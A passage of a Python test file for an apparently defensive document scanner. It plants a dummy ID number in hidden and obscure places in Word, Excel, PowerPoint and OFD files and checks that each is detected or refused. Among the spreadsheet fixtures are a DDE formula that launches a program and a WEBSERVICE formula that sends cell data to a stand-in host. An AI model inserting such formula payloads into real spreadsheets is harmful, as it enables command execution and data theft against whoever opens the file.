"""Leaks sown over all places of office files where people or programs put text: each is read, or refused as what it is.

``TEXT``: what is sown comes out as text, and the leak scan finds it there. A name of a fault: the file is refused for it.
"""

# ruff: noqa: E501 - an element of XML is one line

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from PIL import Image

from gongkai.attachments.examined import Examined
from gongkai.attachments.inspect_file import inspect_file
from gongkai.secrecy.scan import scan
from support.office_files import (
    Part,
    cells,
    docx,
    ofd,
    ofd_box,
    ofd_parts,
    ofd_text,
    paragraph,
    pptx,
    shape,
    sheet_part,
    slide_part,
    word_bar,
    word_part,
    xlsx,
    zipped,
)  # fmt: skip

LEAK = "330102199003071230"  # nobody's; its checksum is right
TEXT = "text"
P = paragraph


@dataclass(frozen=True)
class Sown:
    name: str
    make: Callable[[], bytes]
    found: str = TEXT


def _custom() -> str:
    return (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="2" name="经办"><vt:lpwstr>{LEAK}</vt:lpwstr></property></Properties>'
    )


def _box(text: str, about: str = 'descr="图"', fill: str = "") -> str:
    return (
        f'<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:anchor><wp:docPr id="1" name="文本框 1" {about}/><a:graphic>'
        f"<a:graphicData><wps:wsp><wps:spPr>{fill}</wps:spPr><wps:txbx><w:txbxContent>{P(text)}</w:txbxContent></wps:txbx></wps:wsp></a:graphicData>"
        "</a:graphic></wp:anchor></w:drawing></mc:Choice><mc:Fallback><w:pict/></mc:Fallback></mc:AlternateContent></w:r></w:p>"
    )


def _field(code: str) -> str:
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def _control(inner: str) -> str:
    return f"<w:sdt><w:sdtPr>{inner}</w:sdtPr><w:sdtContent>{P('请选择')}</w:sdtContent></w:sdt>"


WORD = {
    "the text": lambda: docx(P(LEAK)),
    "a main part of another name": lambda: docx(P(LEAK), main="word/正文.xml"),
    "a main part in another folder": lambda: docx(P(LEAK), main="content/main2.xml"),
    "a number over runs": lambda: docx(f"<w:p><w:r><w:t>{LEAK[:9]}</w:t></w:r><w:r><w:t>{LEAK[9:]}</w:t></w:r></w:p>"),
    "a number split by a comment of the XML": lambda: docx(f"<w:p><w:r><w:t>{LEAK[:9]}<!-- -->{LEAK[9:]}</w:t></w:r></w:p>"),
    "a number split by an instruction of the XML": lambda: docx(f"<w:p><w:r><w:t>{LEAK[:9]}<?x y?>{LEAK[9:]}</w:t></w:r></w:p>"),
    "a comment of the XML": lambda: docx(P("无") + f"<!-- {LEAK} -->"),
    "a table": lambda: docx(f"<w:tbl><w:tr><w:tc>{P('证件号')}</w:tc><w:tc>{P(LEAK)}</w:tc></w:tr></w:tbl>"),
    "a table in a table": lambda: docx(f"<w:tbl><w:tr><w:tc><w:tbl><w:tr><w:tc>{P(LEAK)}</w:tc></w:tr></w:tbl>{P('')}</w:tc></w:tr></w:tbl>"),
    "a text box": lambda: docx(_box(LEAK)),
    "alternative text": lambda: docx(_box("图", f'descr="{LEAK}"')),
    "the name of a picture": lambda: docx(_box("图", f'title="{LEAK}"')),
    "word art": lambda: docx(f'<w:p><w:r><w:pict><v:shape><v:textpath string="{LEAK}"/></v:shape></w:pict></w:r></w:p>'),
    "a second alternative": lambda: docx(
        f'<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:t>甲</w:t></mc:Choice><mc:Fallback><w:t>{LEAK}</w:t></mc:Fallback>'
        "</mc:AlternateContent></w:r></w:p>"
    ),
    "an unknown wrapper": lambda: docx(f'<x:y xmlns:x="urn:x">{P(LEAK)}</x:y>'),
    "an item of a list to choose from": lambda: docx(
        _control(f'<w:dropDownList><w:listItem w:displayText="甲" w:value="{LEAK}"/></w:dropDownList>')
    ),
    "the name of a control": lambda: docx(_control(f'<w:alias w:val="{LEAK}"/>')),
    "the tag of a control": lambda: docx(_control(f'<w:tag w:val="身份证{LEAK}"/>')),
    "a binding of a control": lambda: docx(_control(f'<w:dataBinding w:xpath="/a[@b=\'{LEAK}\']"/>')),
    "a variable of the document": lambda: docx(
        P(""), word_part("word/settings.xml", f'<w:settings {{names}}><w:docVars><w:docVar w:name="a" w:val="{LEAK}"/></w:docVars></w:settings>', "settings")
    ),
    "the code of a field": lambda: docx(_field(f'SET 证件 "{LEAK}"')),
    "the code of a simple field": lambda: docx(f'<w:p><w:fldSimple w:instr="QUOTE {LEAK}"><w:r><w:t>甲</w:t></w:r></w:fldSimple></w:p>'),
    "a field of a form": lambda: docx(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:textInput><w:default w:val="{LEAK}"/></w:textInput></w:ffData></w:fldChar></w:r></w:p>'
    ),
    "a tooltip": lambda: docx(f'<w:p><w:hyperlink w:tooltip="{LEAK}"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>'),
    "where a link leads": lambda: docx(P(""), Part("", "", "hyperlink", "word/document.xml", external=f"http://example.gov.cn/?id={LEAK}")),
    "a bookmark": lambda: docx(f'<w:bookmarkStart w:id="0" w:name="证{LEAK}"/>{P("")}'),
    "a header": lambda: docx(P(""), word_part("word/页眉.xml", f"<w:hdr {{names}}>{P(LEAK)}</w:hdr>", "header")),
    "a footnote": lambda: docx(P(""), word_part("word/footnotes.xml", f'<w:footnotes {{names}}><w:footnote w:id="1">{P(LEAK)}</w:footnote></w:footnotes>', "footnotes")),
    "an endnote": lambda: docx(P(""), word_part("word/e.xml", f'<w:endnotes {{names}}><w:endnote w:id="1">{P(LEAK)}</w:endnote></w:endnotes>', "endnotes")),
    "building blocks": lambda: docx(P(""), word_part("word/glossary/document.xml", f"<w:glossaryDocument {{names}}><w:docParts>{P(LEAK)}</w:docParts></w:glossaryDocument>", "glossaryDocument")),
    "a chart": lambda: docx(P(""), word_part("word/charts/chart1.xml", f"<c:chartSpace {{names}}><c:v>{LEAK}</c:v></c:chartSpace>", "chart")),
    "the title of a chart": lambda: docx(P(""), word_part("word/charts/c.xml", f"<c:chartSpace {{names}}><c:title><a:p><a:r><a:t>{LEAK[:6]}</a:t></a:r><a:r><a:t>{LEAK[6:]}</a:t></a:r></a:p></c:title></c:chartSpace>", "chart")),
    "a diagram": lambda: docx(P(""), word_part("word/diagrams/data1.xml", f"<a:d {{names}}><a:p><a:r><a:t>{LEAK}</a:t></a:r></a:p></a:d>", "diagramData")),
    "a property": lambda: docx(P(""), Part("docProps/custom.xml", _custom(), "custom-properties")),
    "keywords": lambda: docx(P(""), Part("docProps/core.xml", f'<c:coreProperties xmlns:c="urn:c"><c:keywords>{LEAK}</c:keywords></c:coreProperties>', "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties")),
    "data in XML": lambda: docx(P(""), word_part("customXml/item1.xml", f"<数据><号>{LEAK}</号></数据>", "customXml")),
    "an attribute of data in XML": lambda: docx(P(""), word_part("customXml/item1.xml", f'<数据 号="编{LEAK}"/>', "customXml")),
    "a part that nothing leads to": lambda: docx(P(""), Part("word/old.xml", f"<w:document {{names}}>{P(LEAK)}</w:document>".replace("{names}", 'xmlns:w="urn:w"'))),
    "the label of a list": lambda: docx(P(""), word_part("word/numbering.xml", f'<w:numbering {{names}}><w:lvl><w:lvlText w:val="号{LEAK}"/></w:lvl></w:numbering>', "numbering")),
    "a formula": lambda: docx(f"<w:p><m:oMath><m:r><m:t>{LEAK}</m:t></m:r></m:oMath></w:p>"),
    "a picture of vectors": lambda: docx(P(""), Part("word/media/image1.emf", _emf(LEAK), "image", "word/document.xml")),
    "a picture's text": lambda: docx(P(""), Part("word/media/image1.png", _png_text(LEAK), "image", "word/document.xml")),
    "a drawing in SVG": lambda: docx(P(""), Part("word/media/image1.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><text>{LEAK}</text></svg>', "image", "word/document.xml")),
}  # fmt: skip

HIDDEN_WORD = {
    "vanish": lambda: docx(P(LEAK, "<w:vanish/>")),
    "vanish by the defaults": lambda: docx(P(LEAK), styles="<w:docDefaults><w:rPrDefault><w:rPr><w:vanish/></w:rPr></w:rPrDefault></w:docDefaults>"),
    "vanish by a style's base": lambda: docx(
        P(LEAK, properties='<w:pStyle w:val="b"/>'),
        styles='<w:style w:type="paragraph" w:styleId="a"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style>',
    ),
    "vanish by a default style": lambda: docx(P(LEAK), styles='<w:style w:type="paragraph" w:default="1" w:styleId="a"><w:rPr><w:vanish/></w:rPr></w:style>'),
    "vanish by a style of a table": lambda: docx(
        f'<w:tbl><w:tblPr><w:tblStyle w:val="t"/></w:tblPr><w:tr><w:tc>{P(LEAK)}</w:tc></w:tr></w:tbl>',
        styles='<w:style w:type="table" w:styleId="t"><w:rPr><w:vanish/></w:rPr></w:style>',
    ),
    "white": lambda: docx(P(LEAK, '<w:color w:val="FFFFFF"/>')),
    "nearly white": lambda: docx(P(LEAK, '<w:color w:val="FCFCFC"/>')),
    "white by the theme": lambda: docx(P(LEAK, '<w:color w:val="000000" w:themeColor="background1"/>')),
    "white by a style": lambda: docx(P(LEAK, '<w:rStyle w:val="w"/>'), styles='<w:style w:type="character" w:styleId="w"><w:rPr><w:color w:val="FEFEFE"/></w:rPr></w:style>'),
    "a black marker pen": lambda: docx(P(LEAK, '<w:highlight w:val="black"/>')),
    "black on a black field": lambda: docx(P(LEAK, '<w:color w:val="000000"/><w:shd w:val="clear" w:fill="000000"/>')),
    "one point": lambda: docx(P(LEAK, '<w:sz w:val="2"/>')),
    "one per cent wide": lambda: docx(P(LEAK, '<w:w w:val="1"/>')),
    "without a fill": lambda: docx(P(LEAK, "<w14:textFill><w14:noFill/></w14:textFill>")),
    "a line of no height": lambda: docx(P(LEAK, properties='<w:spacing w:line="1" w:lineRule="exact"/>')),
    "a row of no height": lambda: docx(f'<w:tbl><w:tr><w:trPr><w:trHeight w:val="1" w:hRule="exact"/></w:trPr><w:tc>{P(LEAK)}</w:tc></w:tr></w:tbl>'),
    "a frame beside the page": lambda: docx(P(LEAK, properties='<w:framePr w:x="-31000" w:y="1"/>')),
    "a hidden box": lambda: docx(_box("甲", 'hidden="1"')),
    "vanish by a linked style": lambda: docx(
        P(LEAK, properties='<w:pStyle w:val="p"/>'),
        styles='<w:style w:type="paragraph" w:styleId="p"><w:link w:val="c"/></w:style><w:style w:type="character" w:styleId="c"><w:rPr><w:vanish/></w:rPr></w:style>',
    ),
    "an old box that is switched off": lambda: docx(f'<w:p><w:r><w:pict><v:shape style="position:absolute;visibility:hidden"><v:textbox><w:txbxContent>{P(LEAK)}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>'),
    "a box beside the page": lambda: docx(_box(LEAK).replace("<wp:docPr", '<wp:positionH relativeFrom="page"><wp:posOffset>-9000000</wp:posOffset></wp:positionH><wp:extent cx="900000" cy="900000"/><wp:docPr')),
    "a box of no height": lambda: docx(_box(LEAK).replace("<wp:docPr", '<wp:extent cx="900000" cy="1"/><wp:docPr')),
    "white in a white box": lambda: docx(_box(LEAK, fill='<a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill>').replace("<w:rPr></w:rPr>", '<w:rPr><w:color w:val="FFFFFF"/></w:rPr>')),
}  # fmt: skip


FOUND_WORD = {
    "a black bar over it": (lambda: docx(word_bar("000000", LEAK)), "covered_text"),
    "an old black bar over it": (lambda: docx(f'<w:p><w:r><w:t>{LEAK}</w:t></w:r><w:r><w:pict><v:rect style="position:absolute;margin-left:20pt;margin-top:2pt;width:120pt;height:16pt;z-index:251" fillcolor="black [3213]"/></w:pict></w:r></w:p>'), "covered_text"),
    "a comment": (lambda: docx(P(""), word_part("word/c.xml", f'<w:comments {{names}}><w:comment w:id="0">{P(LEAK)}</w:comment></w:comments>', "comments")), "comments"),
    "an insertion": (lambda: docx(f'<w:p><w:ins w:id="1" w:author="某"><w:r><w:t>{LEAK}</w:t></w:r></w:ins></w:p>'), "tracked_changes"),
    "a link to a file": (lambda: docx(P(""), Part("", "", "hyperlink", "word/document.xml", external="file:///C:/Users/a.docx")), "external_link"),
    "a link to a share": (lambda: docx(P(""), Part("", "", "hyperlink", "word/document.xml", external="\\\\server\\share\\a.docx")), "external_link"),
    "a field with a link to a file": (lambda: docx(_field('HYPERLINK "file:///C:/a.docx"')), "external_link"),
    "a field with a link to a share": (lambda: docx(_field('HYPERLINK "\\\\\\\\server\\\\share"')), "external_link"),
    "a file called a picture": (lambda: docx(P(""), Part("word/media/image1.png", b"PK\3\4" + bytes(50), "image", "word/document.xml")), "embedded_file"),
    "a file in a part of an unknown kind": (lambda: docx(P(""), word_part("word/x.bin", "%PDF-1.7", "unknown")), "embedded_file"),
    "a linked picture": (lambda: docx(P(""), Part("", "", "image", "word/document.xml", external="http://example.com/a.png")), "external_link"),
    "a field that fetches, over runs": (lambda: docx('<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "c:\\a"</w:instrText></w:r></w:p>'), "external_link"),
    "a program by its relation": (lambda: docx(P(""), word_part("word/x.bin", "x", "http://schemas.microsoft.com/office/2006/relationships/vbaProject")), "macro"),
    "an object by its relation": (lambda: docx(P(""), word_part("word/data.bin", "x", "oleObject")), "active_content"),
    "a file that nothing leads to": (lambda: docx(P(""), Part("word/rest.dat", LEAK)), "embedded_file"),
    "another document inside": (lambda: docx(P(""), word_part("word/a.htm", "<html/>", "aFChunk")), "embedded_file"),
}  # fmt: skip


def _n(value: str, style: int = 0, kind: str = "") -> str:
    return f'<c r="A1" s="{style}"{kind}><v>{value}</v></c>'


_PALE = '<numFmts><numFmt numFmtId="170" formatCode=";;;"/></numFmts><fonts><font/><font><color rgb="FFFFFFFF"/></font><font><sz val="1"/></font></fonts><fills><fill/></fills>'
_XFS = '<cellXfs><xf/><xf fontId="1"/><xf fontId="2"/><xf numFmtId="170"/></cellXfs>'

SHEET = {
    "a cell": lambda: xlsx(cells(LEAK)),
    "a sheet in another folder": lambda: xlsx(cells(LEAK), part="xl/data/s.xml"),
    "a shared string": lambda: xlsx(cells('<c r="A1" t="s"><v>0</v></c>'), shared=[LEAK]),
    "a shared string that no cell names": lambda: xlsx(cells("甲"), shared=[LEAK]),
    "a reading aid": lambda: xlsx(cells('<c r="A1" t="s"><v>0</v></c>'), shared=[f"<si><t>甲</t><rPh><t>{LEAK}</t></rPh></si>"]),
    "a number over runs": lambda: xlsx(cells('<c r="A1" t="s"><v>0</v></c>'), shared=[f"<si><r><t>{LEAK[:5]}</t></r><r><t>{LEAK[5:]}</t></r></si>"]),
    "the value of a formula": lambda: xlsx(cells(f'<c r="A1" t="str"><f>B1</f><v>{LEAK}</v></c>')),
    "a formula": lambda: xlsx(cells(f'<c r="A1"><f>IF(A2="{LEAK}",1,0)</f><v>1</v></c>')),
    "a list to choose from": lambda: xlsx(f'{cells("甲")}<dataValidations><dataValidation type="list"><formula1>"{LEAK},乙"</formula1></dataValidation></dataValidations>'),
    "a prompt": lambda: xlsx(f'{cells("甲")}<dataValidations><dataValidation promptTitle="证" prompt="{LEAK}"/></dataValidations>'),
    "a condition": lambda: xlsx(f'{cells("甲")}<conditionalFormatting sqref="A1"><cfRule><formula>"{LEAK}"</formula></cfRule></conditionalFormatting>'),
    "a header": lambda: xlsx(f'{cells("甲")}<headerFooter><oddHeader>&amp;C&amp;"宋体,常规"证件{LEAK}</oddHeader></headerFooter>'),
    "a tooltip": lambda: xlsx(f'{cells("甲")}<hyperlinks><hyperlink ref="A1" tooltip="{LEAK}"/></hyperlinks>'),
    "a scenario": lambda: xlsx(f'{cells("甲")}<scenarios><scenario name="a"><inputCells r="A1" val="{LEAK}"/></scenario></scenarios>'),
    "a defined name": lambda: xlsx(cells("甲"), workbook=f'<definedNames><definedName name="号" hidden="1">"{LEAK}"</definedName></definedNames>'),
    "the column of a table": lambda: xlsx(cells("甲"), sheet_part("xl/tables/t.xml", f'<table {{names}} ref="A1:A2"><tableColumns><tableColumn id="1" name="{LEAK}"/></tableColumns></table>', "table")),
    "a shape": lambda: xlsx(cells("甲"), sheet_part("xl/drawings/d.xml", f'<d xmlns:a="urn:a"><a:p><a:r><a:t>{LEAK}</a:t></a:r></a:p></d>', "drawing")),
    "alternative text": lambda: xlsx(cells("甲"), sheet_part("xl/drawings/d.xml", f'<d xmlns:a="urn:a"><a:cNvPr descr="{LEAK}"/></d>', "drawing")),
    "a pivot table's items": lambda: xlsx(cells("甲"), sheet_part("xl/pivotCache/p.xml", f'<pivotCacheDefinition {{names}}><sharedItems><s v="{LEAK}"/></sharedItems></pivotCacheDefinition>', "pivotCacheDefinition", "xl/workbook.xml")),
    "a pivot table's numbers": lambda: xlsx(cells("甲"), sheet_part("xl/pivotCache/p.xml", f'<pivotCacheDefinition {{names}}><sharedItems><n v="{LEAK}"/></sharedItems></pivotCacheDefinition>', "pivotCacheDefinition", "xl/workbook.xml")),
    "a telephone as a number": lambda: xlsx(cells(_n("13800138000"))),
    "a telephone as a power": lambda: xlsx(cells(_n("1.3800138E+10"))),
    "a sheet that nothing lists": lambda: xlsx(cells("甲"), sheet_part("xl/worksheets/s9.xml", f"<worksheet {{names}}>{cells(LEAK)}</worksheet>", "worksheet", "xl/workbook.xml")),
}  # fmt: skip
HIDDEN_SHEET = {
    "white": (lambda: xlsx(cells(_n("1", 1)), styles=_PALE + _XFS), "hidden_text"),
    "one point": (lambda: xlsx(cells(_n("1", 2)), styles=_PALE + _XFS), "hidden_text"),
    "a format that shows nothing": (lambda: xlsx(cells(_n("1", 3)), styles=_PALE + _XFS), "hidden_text"),
    "white letters in a cell": (lambda: xlsx(cells('<c r="A1" t="s"><v>0</v></c>'), shared=['<si><r><rPr><color rgb="FFFFFFFF"/></rPr><t>甲</t></r></si>'], styles=_PALE + _XFS), "hidden_text"),
    "tiny letters in a cell": (lambda: xlsx(cells('<c r="A1" t="inlineStr"><is><r><rPr><sz val="1"/></rPr><t>甲</t></r></is></c>')), "hidden_text"),
    "a row of one point": (lambda: xlsx(cells("甲", row='ht="1" customHeight="1"')), "hidden_cells"),
    "a column of no width": (lambda: xlsx(f'<cols><col min="1" max="1" width="0.1"/></cols>{cells("甲")}'), "hidden_cells"),
    "columns that are narrow unless said otherwise": (lambda: xlsx(f'<sheetFormatPr defaultColWidth="0"/>{cells("甲")}'), "hidden_cells"),
    "a hidden sheet": (lambda: xlsx(cells("甲"), state="veryHidden"), "hidden_sheet"),
    "a hidden window": (lambda: xlsx(cells("甲"), workbook='<bookViews><workbookView visibility="hidden"/></bookViews>'), "hidden_sheet"),
    "a program started by a formula": (lambda: xlsx(cells("<c r='A1'><f>cmd|'/c calc'!A1</f><v>0</v></c>")), "formula"),
    "data fetched by a formula": (lambda: xlsx(cells('<c r="A1"><f>_xlfn.WEBSERVICE("http://x.example/"&amp;B1)</f><v>0</v></c>')), "formula"),
    "a formula in a name": (lambda: xlsx(cells("甲"), workbook='<definedNames><definedName name="a">WEBSERVICE("http://x.example")</definedName></definedNames>'), "formula"),
    "another file in a formula": (lambda: xlsx(cells("<c r='A1'><f>'D:\\表\\[底表.xlsx]名单'!A1</f><v>0</v></c>")), "external_link"),
    "comments of an answering kind": (lambda: xlsx(cells("甲"), sheet_part("xl/c.xml", "<ThreadedComments><threadedComment><text>甲</text></threadedComment></ThreadedComments>", "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment")), "comments"),
    "another workbook": (lambda: xlsx(cells("甲"), sheet_part("xl/e.xml", "<externalLink {names}/>", "externalLink", "xl/workbook.xml")), "external_link"),
    "the data behind a pivot table": (lambda: xlsx(cells("甲"), sheet_part("xl/r.xml", "<pivotCacheRecords {names}/>", "pivotCacheRecords", "xl/workbook.xml")), "cached_data"),
}  # fmt: skip

_CHART = f"<c:chartSpace {{names}}><c:ser><c:tx><c:v>{LEAK}</c:v></c:tx></c:ser></c:chartSpace>"
SLIDE = {
    "a slide": lambda: pptx(shape(LEAK)),
    "a group": lambda: pptx(f"<p:grpSp><p:grpSpPr/>{shape(LEAK)}</p:grpSp>"),
    "a table": lambda: pptx(
        f"<p:graphicFrame><a:graphic><a:graphicData><a:tbl><a:tr><a:tc><a:txBody><a:p><a:r><a:t>{LEAK}</a:t></a:r></a:p></a:txBody></a:tc></a:tr></a:tbl>"
        "</a:graphicData></a:graphic></p:graphicFrame>"
    ),
    "alternative text": lambda: pptx(shape("甲", about=f' descr="{LEAK}"')),
    "a master": lambda: pptx(shape("甲"), master=shape(LEAK)),
    "a layout": lambda: pptx(shape("甲"), layout=shape(LEAK)),
    "a chart": lambda: pptx(shape("甲"), slide_part("ppt/charts/c.xml", _CHART, "chart")),
    "a diagram": lambda: pptx(shape("甲"), slide_part("ppt/diagrams/d.xml", f"<a:d {{names}}><a:p><a:r><a:t>{LEAK}</a:t></a:r></a:p></a:d>", "diagramData")),
    "a section": lambda: pptx(shape("甲"), extension=f'<p:extLst><p:ext><p14:sectionLst><p14:section name="{LEAK}"/></p14:sectionLst></p:ext></p:extLst>'),
    "a tag": lambda: pptx(shape("甲"), slide_part("ppt/tags/t.xml", f'<p:tagLst {{names}}><p:tag name="A" val="号{LEAK}"/></p:tagLst>', "tags")),
    "a tooltip": lambda: pptx(shape("甲", run=f'<a:hlinkClick tooltip="{LEAK}"/>')),
    "a handout": lambda: pptx(shape("甲"), slide_part("ppt/h.xml", f"<p:handoutMaster {{names}}><p:cSld><p:spTree>{shape(LEAK)}</p:spTree></p:cSld></p:handoutMaster>", "handoutMaster", "ppt/presentation.xml")),
    "a slide that is not listed": lambda: pptx(shape("甲"), slide_part("ppt/slides/s9.xml", f"<p:sld {{names}}>{shape(LEAK)}</p:sld>", "slide", "ppt/presentation.xml")),
}  # fmt: skip
_WHITE = '<a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill>'
HIDDEN_SLIDE = {
    "beside the slide": (lambda: pptx(shape(LEAK, at=(13_000_000, 0))), "hidden_text"),
    "above the slide": (lambda: pptx(shape(LEAK, at=(0, -900_000))), "hidden_text"),
    "a hidden shape": (lambda: pptx(shape(LEAK, about=' hidden="1"')), "hidden_text"),
    "a hidden slide": (lambda: pptx(shape(LEAK), show='show="0"'), "hidden_slide"),
    "white on a white slide": (lambda: pptx(shape(LEAK, run=_WHITE)), "hidden_text"),
    "white on a white shape": (lambda: pptx(shape(LEAK, run=_WHITE, fill=_WHITE)), "hidden_text"),
    "wholly transparent": (lambda: pptx(shape(LEAK, run='<a:solidFill><a:srgbClr val="FF0000"><a:alpha val="0"/></a:srgbClr></a:solidFill>')), "hidden_text"),
    "one point": (lambda: pptx(shape(LEAK).replace('lang="zh-CN"', 'sz="100"')), "hidden_text"),
    "a box upon it": (lambda: pptx(shape(LEAK) + shape("", fill=_WHITE)), "covered_text"),
    "a box in a group upon it": (lambda: pptx(shape(LEAK) + f"<p:grpSp><p:grpSpPr/>{shape('', fill=_WHITE)}</p:grpSp>"), "covered_text"),
    "speaker notes": (lambda: pptx(shape("甲"), slide_part("ppt/n.xml", f"<p:notes {{names}}>{shape(LEAK)}</p:notes>", "notesSlide")), "speaker_notes"),
    "a comment": (lambda: pptx(shape("甲"), slide_part("ppt/c.xml", "<p:cmLst {names}><p:cm><p:text>甲</p:text></p:cm></p:cmLst>", "comments")), "comments"),
    "a comment of the new kind": (lambda: pptx(shape("甲"), slide_part("ppt/c.xml", "<p:cmLst {names}><p:cm/></p:cmLst>", "http://schemas.microsoft.com/office/2018/10/relationships/comments")), "comments"),
}  # fmt: skip

T = ofd_text
LAYOUT = {
    "a page": lambda: ofd(T(LEAK)),
    "a number over codes": lambda: ofd(T(LEAK[:6]).replace("</ofd:TextObject>", f'<ofd:TextCode X="12.1" Y="4">{LEAK[6:]}</ofd:TextCode></ofd:TextObject>')),
    "a number over objects": lambda: ofd(T(LEAK[6:], box="32 30 60 6") + T(LEAK[:6], box="20 30 12 6")),
    "a digit an object": lambda: ofd("".join(T(digit, box=f"{20 + 5 * place} 30 3 6") for place, digit in enumerate(LEAK))),
    "the title": lambda: ofd(T("甲"), info=f"<ofd:Title>{LEAK}</ofd:Title>"),
    "the subject": lambda: ofd(T("甲"), info=f"<ofd:Subject>{LEAK}</ofd:Subject>"),
    "custom data": lambda: ofd(T("甲"), info=f'<ofd:CustomDatas><ofd:CustomData Name="号">{LEAK}</ofd:CustomData></ofd:CustomDatas>'),
    "the name of custom data": lambda: ofd(T("甲"), info=f'<ofd:CustomDatas><ofd:CustomData Name="{LEAK}">甲</ofd:CustomData></ofd:CustomDatas>'),
    "a bookmark": lambda: ofd(T("甲"), document=f'<ofd:Bookmarks><ofd:Bookmark Name="{LEAK}"/></ofd:Bookmarks>'),
    "an outline": lambda: ofd(T("甲"), document=f'<ofd:Outlines><ofd:OutlineElem Title="{LEAK}"/></ofd:Outlines>'),
    "where a link leads": lambda: ofd(T("甲", inside=f'<ofd:Actions><ofd:Action Event="CLICK"><ofd:URI URI="http://example.gov.cn/{LEAK}/"/></ofd:Action></ofd:Actions>')),
    "a tag with an undeclared prefix": lambda: ofd(T("甲"), document="<ofd:CustomTags>Tags/CustomTags.xml</ofd:CustomTags>", more={"Doc_0/Tags/CustomTag.xml": f"<a:b><a:号>{LEAK}</a:号></a:b>"}),
    "data of an invoice": lambda: ofd(
        T("甲"), document="<ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments>",
        more={
            "Doc_0/Attachs/Attachments.xml": '<ofd:Attachments xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Attachment ID="1" Name="original_invoice" Format="xml">'
            "<ofd:FileLoc>original_invoice.xml</ofd:FileLoc></ofd:Attachment></ofd:Attachments>",
            "Doc_0/Attachs/original_invoice.xml": f"<eInvoice><购方>{LEAK}</购方></eInvoice>",
        },
    ),
    "a watermark": lambda: _annotated("Watermark", LEAK),
    "a template": lambda: _with_template(T(LEAK)),
    "a number over a page and its template": lambda: _with_template(T(LEAK[:8], box="20 30 17 6"), T(LEAK[8:], box="36 30 60 6")),
    "a unit that pages put together": lambda: ofd(T("甲"), more={"Doc_0/DocumentRes.xml": f'<ofd:Res xmlns:ofd="http://www.ofdspec.org/2016"><ofd:CompositeGraphicUnit>{T(LEAK)}</ofd:CompositeGraphicUnit></ofd:Res>'}),
    "words under the picture of a scanner": lambda: _pictured(T(LEAK, about='Alpha="0"'), "0 0 210 297"),
    "a page that nothing lists": lambda: ofd(T("甲"), more={"Doc_0/Pages/Page_9/Content.xml": f'<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016">{T(LEAK)}</ofd:Page>'}),
}  # fmt: skip


def _with_template(text: str, page: str = "") -> bytes:
    names = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    parts = ofd_parts(
        page or T("甲"),
        more={
            "Doc_0/Tpls/Tpl_0/Content.xml": f"<ofd:Page {names}><ofd:Content><ofd:Layer>{text}</ofd:Layer></ofd:Content></ofd:Page>"
        },
    )
    document, content = "Doc_0/Document.xml", "Doc_0/Pages/Page_0/Content.xml"
    listed = str(parts[document]).replace(
        "<ofd:PublicRes>", '<ofd:TemplatePage ID="3" BaseLoc="Tpls/Tpl_0/Content.xml"/><ofd:PublicRes>'
    )
    used = str(parts[content]).replace(
        "<ofd:Content>", '<ofd:Template TemplateID="3" ZOrder="Background"/><ofd:Content>'
    )
    return zipped(parts | {document: listed, content: used})


def _pictured(text: str, box: str, kind: str = "JPEG", mode: str = "RGB") -> bytes:
    """A page with a picture painted after its text."""
    out = io.BytesIO()
    Image.new(mode, (8, 8)).save(out, kind)
    image = f'<ofd:ImageObject ID="6" Boundary="{box}" CTM="100 0 0 100 0 0" ResourceID="4"/>'
    parts = ofd_parts(text + image, more={"Doc_0/Res/a.img": out.getvalue()})
    media = '<ofd:MultiMedias><ofd:MultiMedia ID="4" Type="Image"><ofd:MediaFile>a.img</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias>'
    name = "Doc_0/PublicRes.xml"
    renamed = {one.replace("a.img", f"a.{kind.lower()}"): data for one, data in parts.items()}
    return zipped(
        renamed
        | {name: str(parts[name]).replace("</ofd:Res>", f"{media.replace('a.img', f'a.{kind.lower()}')}</ofd:Res>")}
    )


def _annotated(kind: str, text: str, more: str = "") -> bytes:
    names = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    return ofd(
        T("甲"),
        document="<ofd:Annotations>Annots/Annotations.xml</ofd:Annotations>",
        more={
            "Doc_0/Annots/Annotations.xml": f'<ofd:Annotations {names}><ofd:Page PageID="1"><ofd:FileLoc>Page_0/Annotation.xml</ofd:FileLoc></ofd:Page></ofd:Annotations>',
            "Doc_0/Annots/Page_0/Annotation.xml": f'<ofd:PageAnnot {names}><ofd:Annot ID="7" Type="{kind}"><ofd:Appearance Boundary="0 0 210 297">{T(text)}{more}</ofd:Appearance>'
            "</ofd:Annot></ofd:PageAnnot>",
        },
    )


_FILL = '<ofd:FillColor Value="{}"/>'
HIDDEN_LAYOUT = {
    "switched off": (lambda: ofd(T(LEAK, about='Visible="false"')), "hidden_text"),
    "wholly transparent": (lambda: ofd(T(LEAK, about='Alpha="0"')), "hidden_text"),
    "a transparent ink": (lambda: ofd(T(LEAK, inside='<ofd:FillColor Value="0 0 0" Alpha="0"/>')), "hidden_text"),
    "not filled": (lambda: ofd(T(LEAK, about='Fill="false"')), "hidden_text"),
    "white": (lambda: ofd(T(LEAK, inside=_FILL.format("255 255 255"))), "hidden_text"),
